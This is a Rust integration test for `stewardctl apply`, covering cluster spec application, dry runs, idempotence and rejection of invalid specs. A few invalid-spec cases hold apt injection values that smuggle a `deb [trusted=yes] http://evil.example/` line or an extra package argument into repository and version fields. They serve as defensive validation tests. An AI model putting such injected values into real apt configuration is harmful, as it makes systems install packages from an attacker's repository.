//! `stewardctl apply`: the packaged example spec applied to a real cluster
//! (roles, labels, VIPs and settings in etcd and at every agent), applied
//! again without changes, dry runs, and invalid specs refused whole.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;

use steward_coordinator::store::{self, Keys};
use steward_proto::converge::ClusterSettings;
use steward_proto::domain::{DesiredState, NodeId, NodeSpec, Role};
use steward_tests::{bin, eventually, repo_root, Cluster, Ctl};

/// The desired state agent `index` has recorded (`desired.json`).
fn recorded(cluster: &Cluster, index: usize) -> Option<DesiredState> {
    let path = cluster.agents[index].state_dir.join("desired.json");
    let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(path).ok()?).ok()?;
    serde_json::from_value(v["desired"].clone()).ok()
}

/// Every key `apply` may write in these tests (node specs, VIP specs,
/// `vips/.removed`, `cluster/settings`) with its mod revision (0: absent),
/// read from etcd itself.
fn spec_keys(cluster: &Cluster) -> BTreeMap<String, i64> {
    let keys = Keys::new(&cluster.name);
    let mut all: Vec<String> = ["node-1", "node-2", "node-3"]
        .into_iter()
        .map(|n| keys.node_spec(&NodeId::new(n).expect("node id")))
        .collect();
    all.extend(["front", "far"].map(|v| keys.vip_spec(v)));
    all.extend([keys.vips_removed(), keys.cluster_settings()]);
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async {
        let client = store::connect(&cluster.etcd.config(), true)
            .await
            .expect("etcd");
        let mut revisions = BTreeMap::new();
        for key in all {
            let resp = client
                .kv_client()
                .get(key.as_str(), None)
                .await
                .expect("etcd get");
            revisions.insert(key, resp.kvs().first().map_or(0, |kv| kv.mod_revision()));
        }
        revisions
    })
}

/// A node's spec as etcd holds it.
fn node_spec(cluster: &Cluster, node: &str) -> NodeSpec {
    let key = Keys::new(&cluster.name).node_spec(&NodeId::new(node).expect("node id"));
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async {
        let client = store::connect(&cluster.etcd.config(), true)
            .await
            .expect("etcd");
        let resp = client.kv_client().get(key, None).await.expect("etcd get");
        serde_json::from_slice(resp.kvs()[0].value()).expect("node spec")
    })
}

/// The packaged example, made safe for agents that share this machine: its
/// VIP goes on `lo`, which every agent has, with node-3 (no lb role in the
/// example, so no lease stream) as its only candidate, so no agent ever
/// binds it here; and no health check.
fn example_spec() -> toml::Table {
    let path = repo_root().join("packaging/cluster.example.toml");
    let mut spec: toml::Table = std::fs::read_to_string(&path)
        .expect("example spec")
        .parse()
        .expect("example spec parses");
    let vip = spec["vip"].as_array_mut().expect("[[vip]]")[0]
        .as_table_mut()
        .expect("vip table");
    vip.insert("interface".into(), "lo".into());
    vip.insert("candidates".into(), vec!["node-3"].into());
    vip.insert("check".into(), "none".into());
    spec
}

fn write_spec(cluster: &Cluster, name: &str, text: &str) -> PathBuf {
    let path = cluster.dir.path().join(name);
    std::fs::write(&path, text).expect("write spec");
    path
}

fn apply(cluster: &Cluster, path: &std::path::Path, extra: &[&str]) -> Ctl {
    let path = path.display().to_string();
    let mut args = vec!["apply", "-f", path.as_str()];
    args.extend_from_slice(extra);
    cluster.ctl(&args)
}

/// `stewardctl apply -f - ARGS` with `text` on standard input.
fn apply_stdin(cluster: &Cluster, text: &str, extra: &[&str]) -> Ctl {
    let pki = cluster.pki();
    let mut child = Command::new(bin("stewardctl"))
        .env("STEWARD_ENDPOINTS", cluster.coordinator_urls().join(","))
        .env("STEWARD_CA", pki.join("ca.crt"))
        .env("STEWARD_CERT", pki.join("admin.crt"))
        .env("STEWARD_KEY", pki.join("admin.key"))
        .args(["apply", "-f", "-"])
        .args(extra)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run stewardctl");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(text.as_bytes())
        .expect("write stdin");
    let out = child.wait_with_output().expect("stewardctl output");
    Ctl {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn healthy(cluster: &Cluster, n: usize) {
    eventually(Duration::from_secs(5), "healthy nodes", || {
        let nodes = cluster.nodes();
        (nodes.len() == n && nodes.iter().all(|n| n["health"] == "healthy")).then_some(())
    });
}

#[test]
fn the_example_spec_reaches_every_agent_and_applying_it_again_changes_nothing() {
    let mut cluster = Cluster::new();
    cluster.start_coordinators(2);
    let urls = cluster.coordinator_urls();
    // Different replicas serve different agents: each must have the
    // settings in its cache.
    cluster.start_agent_on("node-1", &urls[..1]);
    cluster.start_agent_on("node-2", &urls[1..]);
    cluster.start_agent_on("node-3", &urls[..1]);
    healthy(&cluster, 3);
    let text = toml::to_string(&example_spec()).unwrap();
    let path = write_spec(&cluster, "cluster.toml", &text);

    // A dry run says what would change and writes nothing.
    let before = spec_keys(&cluster);
    let dry = apply(&cluster, &path, &["--dry-run"]);
    assert!(dry.ok(), "{}", dry.stderr);
    let expected = [
        "vip front: add 198.18.0.200/24",
        "frontend grafana: add (port 3000 -> k8s-worker:30300)",
        "cluster settings: kubernetes: add (version 1.31.2-1.1, pod subnet 10.244.0.0/16, \
         service subnet 10.96.0.0/12, repository https://pkgs.k8s.io/core:/stable:/v1.31/deb/)",
        "gluster volume data: add (replica 3, mount on [k8s-worker])",
        "node node-1: roles [] -> [lb,k8s-control-plane,gluster-brick]",
        "node node-1: labels {} -> {zone=a}",
        "node node-2: roles [] -> [lb,k8s-worker,gluster-brick]",
        "node node-2: labels {} -> {zone=b}",
        "node node-3: roles [] -> [k8s-worker,gluster-brick]",
        "node node-3: labels {} -> {zone=c}",
    ];
    let mut lines: Vec<&str> = expected.to_vec();
    lines.push("dry run: nothing written");
    assert_eq!(dry.stdout.lines().collect::<Vec<_>>(), lines);
    assert_eq!(spec_keys(&cluster), before, "a dry run wrote to etcd");
    // Standard input works as a file.
    let dry = apply_stdin(&cluster, &text, &["--dry-run", "-o", "json"]);
    assert!(dry.ok(), "{}", dry.stderr);
    assert_eq!(dry.json()["changes"].as_array().unwrap().len(), 10);
    assert_eq!(dry.json()["applied"], false);
    assert_eq!(spec_keys(&cluster), before, "a dry run wrote to etcd");

    let out = apply(&cluster, &path, &[]);
    assert!(out.ok(), "{}", out.stderr);
    lines.pop();
    lines.push("applied");
    assert_eq!(out.stdout.lines().collect::<Vec<_>>(), lines);

    // Roles, the VIP and the settings reach every agent, whichever replica
    // serves it.
    let roles = [
        vec![Role::Lb, Role::K8sControlPlane, Role::GlusterBrick],
        vec![Role::Lb, Role::K8sWorker, Role::GlusterBrick],
        vec![Role::K8sWorker, Role::GlusterBrick],
    ];
    let states = eventually(Duration::from_secs(5), "the spec at every agent", || {
        let states: Vec<DesiredState> = (0..3)
            .map(|i| recorded(&cluster, i))
            .collect::<Option<_>>()?;
        states
            .iter()
            .zip(&roles)
            .all(|(d, roles)| {
                d.roles.iter().copied().collect::<Vec<_>>() == *roles
                    && d.cluster.vips.len() == 1
                    && d.cluster.settings != ClusterSettings::default()
            })
            .then_some(states)
    });
    // Each node gets the sections its roles consume: the Kubernetes and
    // Gluster settings all three, the frontends the lb nodes.
    for d in &states {
        let s = &d.cluster.settings;
        assert_eq!(s.kubernetes, states[0].cluster.settings.kubernetes);
        let k = s.kubernetes.as_ref().expect("kubernetes settings");
        assert_eq!(k.version, "1.31.2-1.1");
        assert_eq!(k.pod_subnet, "10.244.0.0/16");
        assert_eq!(k.service_subnet, "10.96.0.0/12");
        assert_eq!(
            k.repository.url,
            "https://pkgs.k8s.io/core:/stable:/v1.31/deb/"
        );
        assert_eq!(k.repository.suite, "/");
        assert_eq!(s.gluster_volumes.len(), 1);
        assert_eq!(
            (
                s.gluster_volumes[0].name.as_str(),
                s.gluster_volumes[0].replica
            ),
            ("data", 3)
        );
        assert_eq!(d.cluster.vips[0].name, "front");
        if !d.roles.contains(&Role::Lb) {
            assert!(s.frontends.is_empty(), "{:?}", s.frontends);
            continue;
        }
        assert_eq!(s.frontends.len(), 1);
        let f = &s.frontends[0];
        assert_eq!(
            (f.name.as_str(), f.port, f.backend_role, f.backend_port),
            ("grafana", 3000, Role::K8sWorker, 30300)
        );
        assert_eq!(d.cluster.vips[0].name, "front");
        assert_eq!(d.cluster.vips[0].address.to_string(), "198.18.0.200");
    }
    let labels = node_spec(&cluster, "node-2").labels;
    assert_eq!(labels, BTreeMap::from([("zone".into(), "b".into())]));

    // The same spec again: nothing to do, nothing written.
    let written = spec_keys(&cluster);
    let again = apply(&cluster, &path, &[]);
    assert!(again.ok(), "{}", again.stderr);
    assert_eq!(again.stdout, "no changes\napplied\n");
    let again = apply(&cluster, &path, &["-o", "json"]);
    assert_eq!(
        again.json(),
        serde_json::json!({"changes": [], "applied": true, "dry_run": false, "warnings": []})
    );

    // Both lb nodes in one zone: a warning on stderr (issue 15, zones),
    // not a refusal; stdout still lists the change.
    let one_zone = text.replace("zone = \"b\"", "zone = \"a\"");
    assert_ne!(one_zone, text, "the example spec puts node-2 in zone b");
    let path_a = write_spec(&cluster, "one-zone.toml", &one_zone);
    let dry = apply(&cluster, &path_a, &["--dry-run"]);
    assert!(dry.ok(), "{}", dry.stderr);
    assert!(
        dry.stderr
            .contains("warning: every lb node (node-1, node-2) is in zone a"),
        "{}",
        dry.stderr
    );
    assert!(dry.stdout.contains("node node-2: labels"), "{}", dry.stdout);
    assert_eq!(spec_keys(&cluster), written);

    // The audit trail has the role changes and the settings.
    let events = cluster.ctl(&["events", "-o", "json"]);
    assert!(events.ok(), "{}", events.stderr);
    for expected in [
        "node-1 roles: [] -> [lb,k8s-control-plane,gluster-brick]",
        "node-3 roles: [] -> [k8s-worker,gluster-brick]",
        "cluster settings changed: frontend grafana: add",
        "VIP front set to 198.18.0.200/24",
    ] {
        assert!(
            events.stdout.contains(expected),
            "no {expected:?} event in:\n{}",
            events.stdout
        );
    }

    // A changed spec changes only what differs; VIPs it leaves out go.
    let mut spec = example_spec();
    spec["kubernetes"]
        .as_table_mut()
        .unwrap()
        .insert("version".into(), "1.31.3-1.1".into());
    spec.insert("vip".into(), toml::Value::Array(vec![]));
    let path = write_spec(&cluster, "cluster-2.toml", &toml::to_string(&spec).unwrap());
    let out = apply(&cluster, &path, &[]);
    assert!(out.ok(), "{}", out.stderr);
    assert_eq!(
        out.stdout,
        "vip front: remove\n\
         cluster settings: kubernetes version 1.31.2-1.1 -> 1.31.3-1.1\n\
         applied\n"
    );
    eventually(Duration::from_secs(5), "the change at every agent", || {
        (0..3)
            .map(|i| recorded(&cluster, i))
            .collect::<Option<Vec<_>>>()?
            .iter()
            .all(|d| {
                d.cluster.vips.is_empty()
                    && d.cluster
                        .settings
                        .kubernetes
                        .as_ref()
                        .is_some_and(|k| k.version == "1.31.3-1.1")
            })
            .then_some(())
    });
}

/// A valid part every invalid spec below carries: it must not be written.
const VALID_PART: &str = r#"
[[frontend]]
name = "grafana"
port = 3000
backend_role = "k8s-worker"
backend_port = 30300

[nodes.node-1]
roles = ["lb", "gluster-brick"]
labels = { zone = "a" }
"#;

const KUBERNETES: &str = r#"
[kubernetes]
version = "1.31.2-1.1"
pod_subnet = "10.244.0.0/16"
service_subnet = "10.96.0.0/12"
[kubernetes.repository]
url = "https://pkgs.k8s.io/core:/stable:/v1.31/deb/"
"#;

#[test]
fn invalid_specs_are_refused_with_every_problem_and_nothing_is_written() {
    let mut cluster = Cluster::new();
    cluster.start_coordinators(1);
    for node in ["node-1", "node-2"] {
        cluster.start_agent(node);
    }
    healthy(&cluster, 2);
    // The valid part alone is fine (checked as a dry run).
    let path = write_spec(&cluster, "valid.toml", VALID_PART);
    let dry = apply(&cluster, &path, &["--dry-run"]);
    assert!(dry.ok(), "{}", dry.stderr);
    assert!(dry
        .stdout
        .contains("node node-1: roles [] -> [lb,gluster-brick]"));

    let vip = |name: &str, address: &str, candidate: &str| {
        format!(
            "[[vip]]\nname = \"{name}\"\naddress = \"{address}\"\ncandidates = [\"{candidate}\"]\n\
             check = \"none\"\n"
        )
    };
    let cases: Vec<(&str, String, Vec<&str>)> = vec![
        (
            // TEST-NET-3: on no interface of this machine.
            "a VIP outside every node subnet",
            vip("far", "203.0.113.7/24", "node-2"),
            vec!["vip far: no candidate (node-2) has an address in the subnet of 203.0.113.7/24"],
        ),
        (
            "a VIP problem of its own",
            format!(
                "{}interface = \"lo\"\npriority = {{ node-1 = 5 }}\n",
                vip("front", "198.18.0.200/33", "node-2")
            ),
            vec![
                "vip front: invalid address \"198.18.0.200/33\"",
                "vip front: priority: node-1 is not among the candidates",
            ],
        ),
        (
            "workers without a control plane",
            format!("{KUBERNETES}\n[nodes.node-2]\nroles = [\"k8s-worker\"]\n"),
            vec!["k8s-worker on node-2 but no node has k8s-control-plane"],
        ),
        (
            "Kubernetes roles without [kubernetes]",
            "[nodes.node-2]\nroles = [\"k8s-control-plane\"]\n".into(),
            vec!["Kubernetes roles on node-2 but no [kubernetes] section"],
        ),
        (
            "too few gluster bricks",
            "[[gluster.volume]]\nname = \"data\"\nreplica = 2\n".into(),
            vec![
                "gluster.volume data: replica 2 needs 2 gluster-brick nodes; the cluster would \
                 have 1 (node-1)",
            ],
        ),
        (
            "replica 0",
            "[[gluster.volume]]\nname = \"data\"\nreplica = 0\n".into(),
            vec!["gluster.volume data: replica must be at least 1"],
        ),
        (
            "duplicate names",
            "[[frontend]]\nname = \"grafana\"\nport = 3001\nbackend_role = \"lb\"\n\
             backend_port = 3001\n"
                .into(),
            vec!["frontend grafana: defined twice"],
        ),
        (
            "frontend ports colliding",
            "[[frontend]]\nname = \"web\"\nport = 443\nbackend_role = \"k8s-worker\"\n\
             backend_port = 8443\n[[frontend]]\nname = \"metrics\"\nport = 3000\n\
             backend_role = \"k8s-worker\"\nbackend_port = 9100\n"
                .into(),
            vec![
                "frontend web: port 443 is taken by the built-in frontend ingress-https",
                // grafana (the valid part) or metrics, whichever comes second.
                ": port 3000 is taken by frontend ",
            ],
        ),
        (
            "invalid subnets and an empty version",
            KUBERNETES
                .replace("10.244.0.0/16", "10.244.0.0/33")
                .replace("10.96.0.0/12", "10.96.0.1/12")
                .replace("1.31.2-1.1", ""),
            vec![
                "kubernetes.pod_subnet: \"10.244.0.0/33\": the prefix length must be 1..=32",
                "kubernetes.service_subnet: \"10.96.0.1/12\": host bits are set",
                "kubernetes.version: must not be empty",
            ],
        ),
        (
            // Each would add a line to sources.list or an argument to apt.
            "apt strings with line breaks, options and spaces",
            KUBERNETES
                .replace(
                    "https://pkgs.k8s.io/core:/stable:/v1.31/deb/",
                    "https://pkgs.k8s.io/ ./\\ndeb [trusted=yes] http://evil.example/",
                )
                .replace("1.31.2-1.1", "1.31.2-1.1 kubectl=0.1")
                + "suite = \"/\\ndeb [trusted=yes] http://evil.example/ ./\"\n",
            vec![
                "kubernetes.repository.url \"https://pkgs.k8s.io/ ./\\ndeb [trusted=yes] \
                 http://evil.example/\": ' ' is not allowed",
                "kubernetes.version \"1.31.2-1.1 kubectl=0.1\": ' ' is not allowed",
                "kubernetes.repository.suite \"/\\ndeb [trusted=yes] http://evil.example/ ./\": \
                 '\\n' is not allowed",
            ],
        ),
        (
            // Single words the looser checks let through: a version glob,
            // no host, an option where components go.
            "apt strings outside apt's grammar",
            KUBERNETES
                .replace(
                    "https://pkgs.k8s.io/core:/stable:/v1.31/deb/",
                    "https:///core:/stable:/v1.31/deb/",
                )
                .replace("1.31.2-1.1", "1.31.*")
                + "suite = \"/ [trusted=yes]\"\n",
            vec![
                "kubernetes.repository.url \"https:///core:/stable:/v1.31/deb/\": expected a host",
                "kubernetes.version \"1.31.*\": '*' is not allowed",
                "kubernetes.repository.suite \"/ [trusted=yes]\": '[' is not allowed",
            ],
        ),
        (
            "an unknown role",
            "[nodes.node-2]\nroles = [\"database\"]\n".into(),
            vec!["nodes.node-2: unknown role \"database\""],
        ),
        (
            "an unknown node",
            "[nodes.node-9]\nroles = [\"lb\"]\n".into(),
            vec!["nodes.node-9: unknown node (no agent with this id has ever connected)"],
        ),
        (
            "unknown keys",
            "colour = \"blue\"\n[kubernetes]\nversion = \"1\"\nsubnet = \"x\"\n".into(),
            vec!["colour: unknown key", "kubernetes: unknown field `subnet`"],
        ),
        (
            "TOML syntax",
            "[nodes.node-1]\nroles = [\"lb\"\n".into(),
            vec!["TOML syntax error at line"],
        ),
    ];
    let before = spec_keys(&cluster);
    for (what, bad, problems) in &cases {
        // The bad part first: top-level keys must come before any table.
        let path = write_spec(&cluster, "invalid.toml", &format!("{bad}\n{VALID_PART}"));
        let out = apply(&cluster, &path, &[]);
        assert!(!out.ok(), "{what}: accepted:\n{}", out.stdout);
        assert!(
            out.stderr.contains("invalid cluster spec"),
            "{what}:\n{}",
            out.stderr
        );
        for p in problems {
            assert!(
                out.stderr.lines().any(|l| l.contains(p)),
                "{what}: no {p:?} line in:\n{}",
                out.stderr
            );
        }
        assert!(out.stdout.is_empty(), "{what}: {}", out.stdout);
        assert_eq!(spec_keys(&cluster), before, "{what}: something was written");
    }

    // All of them in one spec: every problem is listed, one per line.
    let everything = format!(
        "{VALID_PART}\n{}\n{}\n[[gluster.volume]]\nname = \"data\"\nreplica = 2\n\
         [[gluster.volume]]\nname = \"logs\"\nreplica = 0\n\
         [[frontend]]\nname = \"web\"\nport = 443\nbackend_role = \"k8s-worker\"\n\
         backend_port = 8443\n[[frontend]]\nname = \"metrics\"\nport = 3000\n\
         backend_role = \"k8s-worker\"\nbackend_port = 9100\n\
         [nodes.node-2]\nroles = [\"k8s-worker\", \"database\"]\n\
         [nodes.node-9]\nroles = [\"lb\"]\n",
        vip("far", "203.0.113.7/24", "node-2"),
        KUBERNETES
            .replace("10.244.0.0/16", "10.244.0.0/33")
            .replace("10.96.0.0/12", "10.96.0.1/12")
            .replace("1.31.2-1.1", ""),
    );
    let out = apply_stdin(&cluster, &everything, &[]);
    assert!(!out.ok(), "accepted:\n{}", out.stdout);
    for p in [
        "vip far: no candidate (node-2) has an address in the subnet of 203.0.113.7/24",
        "k8s-worker on node-2 but no node has k8s-control-plane",
        "gluster.volume data: replica 2 needs 2 gluster-brick nodes",
        "gluster.volume logs: replica must be at least 1",
        "frontend web: port 443 is taken by the built-in frontend ingress-https",
        "frontend metrics: port 3000 is taken by frontend grafana",
        "kubernetes.pod_subnet: \"10.244.0.0/33\"",
        "kubernetes.service_subnet: \"10.96.0.1/12\": host bits are set",
        "kubernetes.version: must not be empty",
        "nodes.node-2: unknown role \"database\"",
        "nodes.node-9: unknown node",
    ] {
        assert!(
            out.stderr.lines().any(|l| l.contains(p)),
            "no {p:?} line in:\n{}",
            out.stderr
        );
    }
    assert!(
        out.stderr
            .contains("invalid cluster spec (11 problems), nothing written:"),
        "{}",
        out.stderr
    );
    assert_eq!(spec_keys(&cluster), before, "something was written");

    // More problems than fit in a gRPC status (a header of at most 16 KiB):
    // as many as fit, and how many more there are.
    let mut many = String::from("[nodes.node-1]\nroles = []\n[nodes.node-1.labels]\n");
    for i in 0..150 {
        many.push_str(&format!("\"{}{i}!\" = \"v\"\n", "k".repeat(200)));
    }
    let out = apply_stdin(&cluster, &many, &[]);
    assert!(!out.ok());
    assert!(
        out.stderr
            .starts_with("stewardctl: invalid cluster spec (150 problems), nothing written:\n"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.trim_end().ends_with("more"), "{}", out.stderr);
    assert_eq!(spec_keys(&cluster), before, "something was written");
}
